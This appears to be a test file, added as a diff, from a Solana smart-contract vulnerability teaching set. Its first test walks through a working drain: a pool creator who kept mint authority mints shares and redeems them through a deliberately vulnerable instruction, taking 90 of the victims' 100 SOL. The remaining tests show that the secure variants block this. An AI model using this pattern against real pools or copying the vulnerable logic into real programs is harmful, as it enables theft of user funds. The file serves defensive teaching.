@@ -0,0 +1,402 @@
+/// # Pattern 201: Share Mint Authority — Mollusk Exploit Tests
+///
+/// The pool's creator minted 1,000 shares into the reserve. Victims have
+/// since bought 100 of them for 100 SOL, so 100 shares are outstanding
+/// against 100 SOL. In the creator-kept pools the mint authority is still
+/// the creator's key; in the sanity pool it is the pool PDA.
+///
+/// - Test 1: EXPLOIT — the creator mints 900 shares through SPL Token and
+///   redeems them through redeem_vulnerable for 90 SOL. The victims' 100
+///   shares then redeem for 10.
+/// - Test 2: SECURE — redeem_secure refuses the creator's minted shares.
+/// - Test 3: SECURE — buy_secure won't sell shares of a creator-kept pool at
+///   all, before anything has been minted.
+/// - Test 4: SANITY — with the pool as mint authority, a buy and a full
+///   redemption go through the secure variants at 1 SOL per share.
+use mollusk_svm::{result::Check, Mollusk};
+use solana_sdk::{
+    account::AccountSharedData,
+    instruction::{AccountMeta, Instruction},
+    program_error::ProgramError,
+    pubkey::Pubkey,
+};
+use test_harness::{
+    account_discriminator, executable_account, ix_discriminator, owned_account, Ledger,
+};
+use test_harness::token::{Mint, TokenAccount};
+
+const PROGRAM_ID: Pubkey = solana_sdk::pubkey!("6BdVcnqVbsrYB8SbqiyuUsCstdUKvjPmFusoA32Tb96S");
+const TOKEN_PROGRAM_ID: Pubkey = solana_sdk::pubkey!("TokenkegQfeZyiNwAJbNbGKPFXCWuBvf9Ss623VQ5DA");
+
+const SOL: u64 = 1_000_000_000;
+/// One share, at 9 decimals. The first buyer paid one lamport per unit.
+const SHARE: u64 = 1_000_000_000;
+const RENT: u64 = 2_000_000;
+const TOKEN_RENT: u64 = 2_039_280;
+const WALLET: u64 = 10 * SOL;
+
+/// Shares the creator minted into the reserve at launch.
+const LAUNCH_SUPPLY: u64 = 1_000 * SHARE;
+/// Shares the victims bought, and the SOL they paid.
+const SOLD: u64 = 100 * SHARE;
+const PAID: u64 = 100 * SOL;
+
+// SPL Token instruction tags
+const IX_MINT_TO: u8 = 7;
+
+// Error codes
+const MINT_AUTHORITY_NOT_POOL: u32 = 6000;
+
+// ---------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------
+
+/// Serialize a Pool account:
+/// [8 disc][32 creator][32 share_mint][32 reserve][8 total_assets][1 bump]
+fn serialize_pool(
+    creator: &Pubkey,
+    share_mint: &Pubkey,
+    reserve: &Pubkey,
+    total_assets: u64,
+    bump: u8,
+) -> Vec<u8> {
+    let mut data = Vec::with_capacity(113);
+    data.extend_from_slice(&account_discriminator("Pool"));
+    data.extend_from_slice(creator.as_ref());
+    data.extend_from_slice(share_mint.as_ref());
+    data.extend_from_slice(reserve.as_ref());
+    data.extend_from_slice(&total_assets.to_le_bytes());
+    data.push(bump);
+    data
+}
+
+/// Serialize an SPL Token mint with 9 decimals and no freeze authority.
+fn serialize_mint(authority: &Pubkey, supply: u64) -> Vec<u8> {
+    Mint {
+        mint_authority: Some(*authority),
+        supply,
+        decimals: 9,
+        ..Mint::default()
+    }
+    .pack()
+}
+
+fn system_account() -> AccountSharedData {
+    AccountSharedData::new(WALLET, 0, &solana_sdk::system_program::ID)
+}
+
+fn new_mollusk() -> Mollusk {
+    let mut mollusk = Mollusk::new(&PROGRAM_ID, "share_mint_authority");
+    mollusk.add_program(
+        &TOKEN_PROGRAM_ID,
+        "spl_token",
+        &solana_sdk::bpf_loader_upgradeable::id(),
+    );
+    mollusk
+}
+
+/// A pool after the victims' purchase, plus everyone's share accounts.
+struct Pool {
+    creator: Pubkey,
+    creator_shares: Pubkey,
+    victim: Pubkey,
+    victim_shares: Pubkey,
+    pool: Pubkey,
+    pool_bump: u8,
+    share_mint: Pubkey,
+    reserve: Pubkey,
+    ledger: Ledger,
+}
+
+impl Pool {
+    /// `pool_is_authority` chooses who the mint answers to: the pool PDA,
+    /// as launch intended, or the creator, who never handed it over.
+    fn new(pool_is_authority: bool) -> Self {
+        let creator = Pubkey::new_unique();
+        let victim = Pubkey::new_unique();
+        let share_mint = Pubkey::new_unique();
+        let (pool, pool_bump) =
+            Pubkey::find_program_address(&[b"pool", share_mint.as_ref()], &PROGRAM_ID);
+        let authority = if pool_is_authority { pool } else { creator };
+        let reserve = Pubkey::new_unique();
+        let creator_shares = Pubkey::new_unique();
+        let victim_shares = Pubkey::new_unique();
+
+        let pool_data = serialize_pool(&creator, &share_mint, &reserve, PAID, pool_bump);
+        let mut pool_account = AccountSharedData::new(RENT + PAID, pool_data.len(), &PROGRAM_ID);
+        pool_account.set_data_from_slice(&pool_data);
+
+        let ledger = vec![
+            (pool, pool_account),
+            (
+                share_mint,
+                owned_account(&serialize_mint(&authority, LAUNCH_SUPPLY), RENT, &TOKEN_PROGRAM_ID),
+            ),
+            (
+                reserve,
+                owned_account(
+                    &TokenAccount::new(&share_mint, &pool, LAUNCH_SUPPLY - SOLD).pack(),
+                    TOKEN_RENT,
+                    &TOKEN_PROGRAM_ID,
+                ),
+            ),
+            (creator, system_account()),
+            (
+                creator_shares,
+                owned_account(
+                    &TokenAccount::new(&share_mint, &creator, 0).pack(),
+                    TOKEN_RENT,
+                    &TOKEN_PROGRAM_ID,
+                ),
+            ),
+            (victim, system_account()),
+            (
+                victim_shares,
+                owned_account(
+                    &TokenAccount::new(&share_mint, &victim, SOLD).pack(),
+                    TOKEN_RENT,
+                    &TOKEN_PROGRAM_ID,
+                ),
+            ),
+            (
+                TOKEN_PROGRAM_ID,
+                executable_account(&solana_sdk::bpf_loader_upgradeable::id()),
+            ),
+            (
+                solana_sdk::system_program::ID,
+                executable_account(&solana_sdk::native_loader::id()),
+            ),
+        ];
+
+        Self {
+            creator,
+            creator_shares,
+            victim,
+            victim_shares,
+            pool,
+            pool_bump,
+            share_mint,
+            reserve,
+            ledger: Ledger::new(ledger),
+        }
+    }
+
+    /// SPL Token mint_to straight to the creator's account, signed by the
+    /// creator as mint authority. The pool program never sees it.
+    fn mint_to_creator(&self, amount: u64) -> Instruction {
+        let mut data = vec![IX_MINT_TO];
+        data.extend_from_slice(&amount.to_le_bytes());
+        Instruction::new_with_bytes(
+            TOKEN_PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new(self.share_mint, false),
+                AccountMeta::new(self.creator_shares, false),
+                AccountMeta::new_readonly(self.creator, true),
+            ],
+        )
+    }
+
+    fn buy(&self, name: &str, buyer: Pubkey, buyer_shares: Pubkey, amount: u64) -> Instruction {
+        let mut data = ix_discriminator(name).to_vec();
+        data.extend_from_slice(&amount.to_le_bytes());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new(self.pool, false),
+                AccountMeta::new_readonly(self.share_mint, false),
+                AccountMeta::new(self.reserve, false),
+                AccountMeta::new(buyer_shares, false),
+                AccountMeta::new(buyer, true),
+                AccountMeta::new_readonly(TOKEN_PROGRAM_ID, false),
+                AccountMeta::new_readonly(solana_sdk::system_program::ID, false),
+            ],
+        )
+    }
+
+    fn redeem(
+        &self,
+        name: &str,
+        holder: Pubkey,
+        holder_shares: Pubkey,
+        shares: u64,
+    ) -> Instruction {
+        let mut data = ix_discriminator(name).to_vec();
+        data.extend_from_slice(&shares.to_le_bytes());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new(self.pool, false),
+                AccountMeta::new_readonly(self.share_mint, false),
+                AccountMeta::new(self.reserve, false),
+                AccountMeta::new(holder_shares, false),
+                AccountMeta::new(holder, true),
+                AccountMeta::new_readonly(TOKEN_PROGRAM_ID, false),
+            ],
+        )
+    }
+
+    fn pool_data(&self, total_assets: u64) -> Vec<u8> {
+        serialize_pool(
+            &self.creator,
+            &self.share_mint,
+            &self.reserve,
+            total_assets,
+            self.pool_bump,
+        )
+    }
+
+    fn shares_data(&self, owner: &Pubkey, amount: u64) -> Vec<u8> {
+        TokenAccount::new(&self.share_mint, owner, amount).pack()
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Tests
+// ---------------------------------------------------------------------------
+
+#[test]
+fn exploit_kept_authority_mints_and_redeems_vulnerable() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT: The creator never handed the mint to the pool.
+    //   1. SPL Token mint_to: 900 shares to the creator. 1,000 outstanding
+    //   2. redeem_vulnerable(900): 900 / 1,000 of 100 SOL
+    //   3. The victim redeems their 100 shares for what's left
+    //
+    // Expected: all SUCCEED. The creator takes 90 SOL for shares that cost
+    //           nothing; the victim gets 10 SOL back on 100 paid.
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk();
+    let mut p = Pool::new(false);
+    let (creator_shares, pool, creator, victim) = (p.creator_shares, p.pool, p.creator, p.victim);
+
+    let minted = p.shares_data(&p.creator, 900 * SHARE);
+    p.ledger.step(
+        &mollusk,
+        &p.mint_to_creator(900 * SHARE),
+        &[
+            Check::success(),
+            Check::account(&creator_shares).data(&minted).build(),
+        ],
+    );
+
+    let ix = p.redeem(
+        "redeem_vulnerable",
+        p.creator,
+        p.creator_shares,
+        900 * SHARE,
+    );
+    let pool_data = p.pool_data(10 * SOL);
+    p.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&pool).data(&pool_data).build(),
+            Check::account(&creator).lamports(WALLET + 90 * SOL).build(),
+        ],
+    );
+
+    let ix = p.redeem("redeem_vulnerable", p.victim, p.victim_shares, SOLD);
+    let pool_data = p.pool_data(0);
+    p.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&pool).data(&pool_data).build(),
+            Check::account(&victim).lamports(WALLET + 10 * SOL).build(),
+        ],
+    );
+}
+
+#[test]
+fn secure_redeem_rejects_kept_authority() {
+    // -----------------------------------------------------------------------
+    // SECURE: The same 900 shares are minted, then redeemed through
+    // redeem_secure.
+    //
+    // Expected: the mint SUCCEEDS (it never touches the pool program); the
+    //           redemption FAILS with MintAuthorityNotPool (6000).
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk();
+    let mut p = Pool::new(false);
+
+    p.ledger.step(
+        &mollusk,
+        &p.mint_to_creator(900 * SHARE),
+        &[Check::success()],
+    );
+
+    let ix = p.redeem("redeem_secure", p.creator, p.creator_shares, 900 * SHARE);
+    p.ledger.step(
+        &mollusk,
+        &ix,
+        &[Check::err(ProgramError::Custom(MINT_AUTHORITY_NOT_POOL))],
+    );
+}
+
+#[test]
+fn secure_buy_rejects_kept_authority() {
+    // -----------------------------------------------------------------------
+    // SECURE: Nothing extra has been minted yet. A new buyer pays 1 SOL
+    // into the creator-kept pool through buy_secure.
+    //
+    // Expected: FAILS with MintAuthorityNotPool (6000). The pool stops
+    //           taking SOL the moment its mint isn't its own.
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk();
+    let mut p = Pool::new(false);
+
+    let ix = p.buy("buy_secure", p.victim, p.victim_shares, SOL);
+    p.ledger.step(
+        &mollusk,
+        &ix,
+        &[Check::err(ProgramError::Custom(MINT_AUTHORITY_NOT_POOL))],
+    );
+}
+
+#[test]
+fn sanity_pool_authority_secure() {
+    // -----------------------------------------------------------------------
+    // SANITY: The pool PDA is the mint authority. The creator buys 10 SOL
+    // of shares through buy_secure, then the victim redeems all 100 of
+    // theirs through redeem_secure.
+    //
+    // Expected: both SUCCEED at 1 SOL per share — the creator gets 10
+    //           shares, and the victim gets back the 100 SOL they paid.
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk();
+    let mut p = Pool::new(true);
+    let (creator_shares, pool, victim_shares, victim) =
+        (p.creator_shares, p.pool, p.victim_shares, p.victim);
+
+    let ix = p.buy("buy_secure", p.creator, p.creator_shares, 10 * SOL);
+    let bought = p.shares_data(&p.creator, 10 * SHARE);
+    let pool_data = p.pool_data(PAID + 10 * SOL);
+    p.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&creator_shares).data(&bought).build(),
+            Check::account(&pool).data(&pool_data).build(),
+        ],
+    );
+
+    let ix = p.redeem("redeem_secure", p.victim, p.victim_shares, SOLD);
+    let redeemed = p.shares_data(&p.victim, 0);
+    let pool_data = p.pool_data(10 * SOL);
+    p.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&victim_shares).data(&redeemed).build(),
+            Check::account(&pool).data(&pool_data).build(),
+            Check::account(&victim).lamports(WALLET + PAID).build(),
+        ],
+    );
+}